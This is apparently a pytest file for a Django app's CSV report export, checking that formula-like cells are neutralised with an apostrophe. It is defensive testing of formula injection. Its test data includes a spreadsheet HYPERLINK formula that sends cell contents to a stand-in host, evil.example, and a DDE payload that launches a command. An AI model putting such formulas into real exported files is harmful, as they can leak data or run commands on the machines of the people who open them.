"""CSV exports are inert: a cell a spreadsheet would run as a formula starts with an apostrophe."""

import csv
import io

import pytest

from reports.csv import inert, report_csv
from tests.factories import TopicFactory

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_text_gets_an_apostrophe(text):
    assert inert(text) == "'" + text


@pytest.mark.parametrize("text", ["Pandas", "2026-W03", "", "a=b", "email@example.org"])
def test_ordinary_text_is_unchanged(text):
    assert inert(text) == text


def test_report_csv_cells_are_inert_and_numbers_stay_numbers():
    report = {
        "report": "topics",
        "rows": [
            {
                "topic_id": 1,
                "topic": text,
                "count": 3,
                "resolved": 2,
                "effort_hours": -1.5,
                "average_effort_minutes": 30,
                "automation_candidate": False,
                "suggestion": "=1+1",
            }
            for text in DANGEROUS
        ],
    }
    rows = list(csv.reader(io.StringIO(report_csv(report))))[1:]
    assert [row[1] for row in rows] == ["'" + text for text in DANGEROUS]
    assert all(row[7] == "'=1+1" for row in rows)
    assert all(row[4] == "-1.5" for row in rows)  # a negative number is data, not a formula


@pytest.mark.django_db
def test_topics_csv_download_neutralises_a_formula_topic(as_member, team, manager):
    from inquiries import services

    formula = '=HYPERLINK("http://evil.example/","x")'
    topic = TopicFactory(team=team, name=formula)
    services.inquiry_create(
        team=team, subject="s", body="b", requester_name="Lea", requester_email="lea@example.org", topic=topic
    )
    response = as_member(manager).get("/api/v1/reports/topics/", {"team": "ads", "format": "csv"})
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert "'" + formula in cells
    assert formula not in cells
